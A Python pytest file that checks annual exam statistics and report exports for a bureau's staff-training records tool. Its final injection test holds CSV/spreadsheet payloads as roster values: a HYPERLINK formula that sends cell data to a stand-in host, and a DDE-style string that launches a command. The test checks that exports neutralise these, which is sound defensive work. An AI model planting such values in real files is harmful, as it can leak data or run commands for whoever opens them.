"""The annual figures on the hand-made bureau of test_records.py, and every export format.

Expected figures for 2020 (worked out by hand from the bureau described in test_records.py):
roster 11, exempt 2 (MZ007, MZ010) -> required 9; participants MZ001 MZ002 MZ003 MZ004 0042 = 5
(MZ009's only attempt is impersonation, MZ006's is 2021 in China time, MZ008's is 2019);
passed MZ001 MZ002 (make-up at exactly 60) MZ003 (exactly 60) 0042 = 4; first attempt passed
MZ001 MZ003 0042 = 3; excellent MZ001 (100) 0042 (exactly 90) = 2.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from test_records import EXAM, make_bureau

from grader import records
from grader import reports as report
from grader.cli import cli

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def bureau(tmp_path_factory):
    home = tmp_path_factory.mktemp("bureau")
    inst, db = make_bureau(home)
    return home, db


@pytest.fixture(scope="module")
def rep(bureau):
    return report.build(bureau[1], 2020)


def figures(entry):
    return {k: entry[k] for k in report.FIGURES}


def test_total_figures(rep):
    assert set(rep) >= {
        "year",
        "exam",
        "pass_mark",
        "total",
        "departments",
        "categories",
        "absent",
        "failed",
        "exempt",
        "questions",
    }
    assert (rep["year"], rep["exam"], rep["pass_mark"]) == (2020, None, 60)
    assert figures(rep["total"]) == {
        "required": 9,
        "exempt": 2,
        "participants": 5,
        "passed": 4,
        "first_attempt_passed": 3,
        "excellent": 2,
        "participation_rate": pytest.approx(5 / 9),
        "pass_rate": pytest.approx(4 / 5),
        "overall_pass_rate": pytest.approx(4 / 9),
    }


def test_department_figures_and_empty_denominators(rep):
    by = {d["department"]: d for d in rep["departments"]}
    assert figures(by["办公室"]) == {
        "required": 3,
        "exempt": 0,
        "participants": 3,
        "passed": 3,
        "first_attempt_passed": 2,
        "excellent": 1,
        "participation_rate": 1.0,
        "pass_rate": 1.0,
        "overall_pass_rate": 1.0,
    }
    assert (by["社会救助科"]["participants"], by["社会救助科"]["passed"], by["社会救助科"]["pass_rate"]) == (1, 0, 0.0)
    # everyone in 政策法规科 is exempt: rates are null, not 0 and not a crash
    assert figures(by["政策法规科"]) == {
        "required": 0,
        "exempt": 1,
        "participants": 0,
        "passed": 0,
        "first_attempt_passed": 0,
        "excellent": 0,
        "participation_rate": None,
        "pass_rate": None,
        "overall_pass_rate": None,
    }
    # the parts add up to the whole
    for key in ("required", "exempt", "participants", "passed", "first_attempt_passed", "excellent"):
        assert sum(d[key] for d in rep["departments"]) == rep["total"][key]
        assert sum(c[key] for c in rep["categories"]) == rep["total"][key]


def test_category_figures(rep):
    by = {c["category"]: c for c in rep["categories"]}
    assert [c["category"] for c in rep["categories"]] == ["领导干部", "公务员", "事业人员", "执法人员", "其他"]
    assert (by["执法人员"]["required"], by["执法人员"]["participants"], by["执法人员"]["pass_rate"]) == (2, 0, None)
    assert (by["公务员"]["passed"], by["公务员"]["first_attempt_passed"]) == (1, 0)  # 王芳 passed at the make-up
    assert by["其他"]["excellent"] == 1  # 0042, exactly at the excellence mark, empty 类别 -> 其他


def test_lists(rep):
    assert [p["staff_id"] for p in rep["absent"]] == ["MZ008", "MZ009", "MZ005", "MZ006"]
    assert rep["failed"] == [
        {
            "staff_id": "MZ004",
            "name": "刘洋",
            "department": "社会救助科",
            "category": "公务员",
            "attempts": 1,
            "best": 57.0,
            "hours": 0,
        }
    ]
    assert {(p["staff_id"], p["reason"]) for p in rep["exempt"]} == {("MZ007", "病假"), ("MZ010", "借调市局")}
    flagged = {f["staff_id"]: (f["flag"], f["counted"]) for f in rep["flagged"]}
    assert flagged == {"MZ003": ("late", True), "MZ009": ("impersonation", False)}


def test_questions_weakest_first_with_law_and_article(rep):
    assert [(q["question_id"], q["law"], q["article"], q["answered"], q["correct"]) for q in rep["questions"]] == [
        ("so-e-003", "社会团体登记管理条例", 10, 5, 1),
        ("sa-e-002", "社会救助暂行办法", 9, 5, 2),
        ("bu-e-001", "殡葬管理条例", 4, 5, 5),
    ]
    assert rep["questions"][0]["correct_rate"] == pytest.approx(0.2)


def test_questions_carry_item_figures_of_first_attempts(rep):
    """First counted attempts (MZ009's impersonation left out; MZ002's make-up not counted):
    0042 [bu 1, sa 1, so 0], MZ001 [1, 1, 1], MZ002 [1, 0, 0], MZ003 [1, 0, 0] (right = full marks).
    so-e-003: facility 1/4; rest scores 2, 2, 1, 1 -> r = 0.5 / sqrt(0.75) = 0.5774 (by hand)."""
    q = {r["question_id"]: r for r in rep["questions"]}
    assert [q[i]["first_n"] for i in q] == [4, 4, 4]
    assert q["so-e-003"]["facility"] == pytest.approx(0.25)
    assert q["so-e-003"]["discrimination"] == pytest.approx(0.5 / 0.75**0.5)
    assert q["sa-e-002"]["facility"] == pytest.approx(0.5)
    assert q["bu-e-001"]["facility"] == 1.0 and q["bu-e-001"]["discrimination"] is None
    assert q["bu-e-001"]["flags"] == ["easy"] and q["so-e-003"]["flags"] == []


def test_next_steps_name_the_three_weakest_articles(rep, tmp_path):
    text = rep["next_steps"]
    assert text.count("。") == 2
    assert text.index("《社会团体登记管理条例》第十条（正确率20%，5人次作答）") < text.index(
        "《社会救助暂行办法》第九条"
    )
    report.write(rep, tmp_path / "统计.md")
    md = (tmp_path / "统计.md").read_text(encoding="utf-8")
    assert "## 下一步打算（可写入年度报告）" in md and text in md
    assert "| 25%（4人） | 0.58 |  |" in md and "| 100%（4人） |  | 过易 |" in md


def test_study_hours_beside_exam_figures(rep):
    people = {p["staff_id"]: p for p in rep["people"]}
    # each person's hours by source (issue 30): these are all course hours, no study activity recorded
    assert [people[s]["hours"] for s in ("MZ001", "MZ002", "MZ003")] == [
        {"course_hours": 10, "activity_hours": 0},
        {"course_hours": 4, "activity_hours": 0},
        {"course_hours": 0, "activity_hours": 0},
    ]
    assert [people[s]["total_hours"] for s in ("MZ001", "MZ002", "MZ003")] == [10, 4, 0]
    assert rep["total"]["hours"] == 14 and rep["total"]["hours_per_person"] == pytest.approx(14 / 9, abs=0.01)


def test_one_exam_only(bureau):
    rep = report.build(bureau[1], 2020, exam=EXAM)
    assert (rep["exam"], rep["pass_mark"]) == (EXAM, 60)
    assert (rep["total"]["participants"], rep["total"]["passed"]) == (4, 4)  # the paper exam is left out
    assert "MZ004" in [p["staff_id"] for p in rep["absent"]]
    with pytest.raises(records.RecordsError, match="没有编号为"):
        report.build(bureau[1], 2020, exam="nope")


def test_other_years(bureau):
    db = bureau[1]
    rep2021 = report.build(db, 2021)
    # MZ006's paper exam was 2021-01-01 01:00 China time; nobody is exempt in 2021
    assert (rep2021["total"]["required"], rep2021["total"]["participants"], rep2021["total"]["passed"]) == (11, 1, 1)
    rep2019 = report.build(db, 2019)
    assert [p["staff_id"] for p in rep2019["people"] if p["attempts"]] == ["MZ008"]


def test_paragraph_when_everything_is_done(tmp_path):
    db = records.open_db(tmp_path)
    path = tmp_path / "r.csv"
    path.write_text("工号,姓名,科室,类别\nA1,张三,办公室,公务员\nA2,李四,办公室,公务员\n", encoding="utf-8")
    records.import_roster(db, path)
    path.write_text(
        "staff_id,exam,score,max_score,submitted_at\nA1,p,60,100,2020-05-01\nA2,p,88,100,2020-05-01\n", encoding="utf-8"
    )
    records.import_results(db, path)
    rep = report.build(db, 2020)
    assert rep["paragraph"] == "组织全局2名干部职工参加2020年学法用法知识考试，参与率与合格率均达到100%。"
    assert "无待办事项" in rep["todo"]


def test_paragraph_and_todo_while_incomplete(rep):
    assert rep["paragraph"].startswith(
        "组织全局9名干部职工参加2020年学法用法知识考试（另有2人按规定免考），实际参考5人，参与率55.6%；合格4人，合格率80%"
    )
    assert rep["todo"] == "待办：4人尚未参加考试；1人未达合格分，需组织补考（名单见缺考名单、不合格名单）。"


def test_pass_mark_is_per_exam(tmp_path):
    db = records.open_db(tmp_path)
    path = tmp_path / "r.csv"
    path.write_text("工号,姓名\nA1,张三\n", encoding="utf-8")
    records.import_roster(db, path)
    path.write_text("staff_id,exam,score,max_score,submitted_at\nA1,p,65,100,2020-05-01\n", encoding="utf-8")
    records.import_results(db, path, pass_mark=70)
    assert report.build(db, 2020)["total"]["passed"] == 0
    records.import_results(db, path, pass_mark=65)
    assert report.build(db, 2020)["total"]["passed"] == 1


# ------------------------------------------------------------------ exports


def test_json_export(rep, tmp_path):
    path = report.write(rep, tmp_path / "r.json")
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["total"]["participants"] == 5 and data["departments"][0]["department"] == "办公室"


def test_csv_export_opens_in_excel_encoding(rep, tmp_path):
    report.write(rep, tmp_path / "统计.csv")
    raw = (tmp_path / "统计.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel on Chinese Windows reads it as UTF-8
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][:5] == ["范围", "名称", "应考人数", "免考人数", "参考人数"]
    assert rows[1][:6] == ["全局", "全局", "9", "2", "5", "4"]
    people = list(csv.DictReader((tmp_path / "统计_人员名单.csv").read_text(encoding="utf-8-sig").splitlines()))
    status = {p["工号"]: p["状态"] for p in people}
    assert (status["MZ001"], status["MZ004"], status["MZ005"], status["MZ007"]) == ("优秀", "不合格", "缺考", "免考")


def test_xlsx_export_sheets_headers_charts(rep, tmp_path):
    report.write(rep, tmp_path / "统计.xlsx")
    wb = load_workbook(tmp_path / "统计.xlsx")
    assert wb.sheetnames == [
        "汇总",
        "按科室",
        "按类别",
        "缺考名单",
        "不合格名单",
        "免考名单",
        "异常提交",
        "题目正确率",
        "人员明细",
    ]
    ws = wb["按科室"]
    assert [c.value for c in ws[1]][:4] == ["科室", "应考人数", "免考人数", "参考人数"]
    assert ws["H2"].value == 1 and ws["H2"].number_format == "0.0%"
    assert [c.value for c in wb["缺考名单"]["A"]][1:] == ["MZ008", "MZ009", "MZ005", "MZ006"]
    summary = [r for r in wb["汇总"].iter_rows(values_only=True) if r and r[0] == "年度报告用语"]
    assert summary and summary[0][2] == rep["paragraph"]
    header = [c.value for c in wb["题目正确率"][1]]
    assert header[7:11] == ["正确率", "通过率（首次作答）", "区分度", "提示"]
    rows = {r[1]: r for r in wb["题目正确率"].iter_rows(min_row=2, values_only=True)}
    assert rows["so-e-003"][8] == pytest.approx(0.25) and rows["so-e-003"][9] == pytest.approx(0.58)
    assert rows["bu-e-001"][10] == "过易"


def test_xlsx_has_native_charts(rep, tmp_path):
    import zipfile

    report.write(rep, tmp_path / "统计.xlsx")
    charts = [n for n in zipfile.ZipFile(tmp_path / "统计.xlsx").namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 3  # departments, categories, weakest questions


def test_html_export_is_self_contained_with_charts(rep, tmp_path):
    report.write(rep, tmp_path / "统计.html")
    page = (tmp_path / "统计.html").read_text(encoding="utf-8")
    assert page.count('src="data:image/png;base64,') == 3
    assert "http://" not in page and "https://" not in page
    assert rep["paragraph"] in page and "缺考名单（4）" in page and "《社会团体登记管理条例》" in page
    assert "<th>通过率（首次作答）</th><th>区分度</th><th>提示</th>" in page and '<td class="">过易</td>' in page


def test_markdown_export(rep, tmp_path):
    report.write(rep, tmp_path / "统计.md")
    text = (tmp_path / "统计.md").read_text(encoding="utf-8")
    assert rep["paragraph"] in text
    assert "| so-e-003 | 《社会团体登记管理条例》第10条 | 20% |" in text
    assert "## 缺考名单（4人）" in text


def test_unknown_suffix_writes_nothing(rep, tmp_path):
    with pytest.raises(records.RecordsError, match="不支持的报表格式"):
        report.write(rep, tmp_path / "r.pdf")
    assert list(tmp_path.iterdir()) == []


def test_cjk_font_found():
    assert "CJK" in report.cjk_font() or "Hei" in report.cjk_font()


def test_report_command(bureau, tmp_path):
    home, _ = bureau
    out = tmp_path / "统计.md"
    r = CliRunner().invoke(
        cli, ["report", "--year", "2020", "-o", str(out), "-o", str(tmp_path / "统计.json"), "--home", str(home)]
    )
    assert r.exit_code == 0, r.output
    assert "参与率55.6%" in r.output and "待办" in r.output
    assert out.exists() and (tmp_path / "统计.json").exists()
    r = CliRunner().invoke(cli, ["report", "--year", "2020", "--exam", "nope", "-o", str(out), "--home", str(home)])
    assert r.exit_code == 1 and "没有编号为 nope" in r.output


def test_roster_text_is_never_a_formula_or_markup(tmp_path):
    """A 姓名 or 科室 such as =HYPERLINK(...) stays text in every export (CSV/xlsx injection)."""
    home = tmp_path / "h"
    roster = tmp_path / "名册.csv"
    # (no "?" in the name: the roster refuses a name with "?", a character an encoding lost)
    evil_name, evil_dept = '=HYPERLINK("http://x.invalid/p="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"
    roster.write_text(
        f'工号,姓名,科室,类别\nMZ900,"{evil_name.replace(chr(34), chr(34) * 2)}",{evil_dept},公务员\n'
        "MZ901,<b>王五</b>|x,-办公室,公务员\n",
        encoding="utf-8",
    )
    runner = CliRunner()
    assert runner.invoke(cli, ["roster", "import", str(roster), "--home", str(home)]).exit_code == 0
    out = tmp_path / "r"
    for suffix in (".xlsx", ".csv", ".md"):
        result = runner.invoke(cli, ["report", "--year", "2020", "-o", str(out) + suffix, "--home", str(home)])
        assert result.exit_code == 0, result.output
    wb = load_workbook(str(out) + ".xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == evil_name for c in cells)  # shown exactly as written ...
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # ... and never as a formula
    people = report.people_csv_path(Path(str(out) + ".csv")).read_text(encoding="utf-8-sig")
    rows = list(csv.reader(people.splitlines()))
    for line in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in line), line
    assert "'" + evil_name in [v for line in rows for v in line]
    md = Path(str(out) + ".md").read_text(encoding="utf-8")
    assert "<b>" not in md and "\\<b\\>" in md


def test_screen_table_is_the_bureau_then_each_department(rep):
    headers, rows = report.screen_table(rep)
    assert headers == ["范围", "应考", "参考", "合格", "优秀", "参与率", "合格率", "总合格率"]
    assert rows[0][:5] == ["全局", "9", "5", "4", "2"]
    assert [r[0] for r in rows[1:]] == [d["department"] for d in rep["departments"]]
    assert all(len(r) == len(headers) for r in rows)
    notes = report.screen_notes(rep)
    assert notes[0].startswith("缺考 ") and notes[1].startswith("年度报告段落：")


def test_report_says_which_record_decided_each_exam(tmp_path):
    """Issue 15: an exam sat through the hub's exam service, or from answers files on one machine."""
    db = records.open_db(tmp_path)
    path = tmp_path / "r.csv"
    path.write_text("工号,姓名\nA1,张三\n", encoding="utf-8")
    records.import_roster(db, path)
    for exam_id, title in (("hub-exam", "年度考试"), ("lab-exam", "补考")):
        records.register_exam(db, {"id": exam_id, "title": title, "year": 2020, "max_score": 100}, [])
    records.set_exam_timing(db, "hub-exam", "service")
    records.set_exam_timing(db, "lab-exam", "files")
    with pytest.raises(records.RecordsError):
        records.set_exam_timing(db, "nope", "service")
    rep = report.build(db, 2020)
    [hub_line, lab_line] = report.timing_lines(rep)
    assert "hub-exam" in hub_line and "考试服务" in hub_line
    assert "lab-exam" in lab_line and "答题文件" in lab_line
    for suffix in ("md", "html"):
        text = report.write(rep, tmp_path / f"r.{suffix}").read_text(encoding="utf-8")
        assert "考试服务在服务器上记录" in text and "未经考试服务" in text
    sheet = load_workbook(report.write(rep, tmp_path / "r.xlsx"))["汇总"]
    assert any(row[0] == "计时与作答记录" and "考试服务" in str(row[1]) for row in sheet.iter_rows(values_only=True))
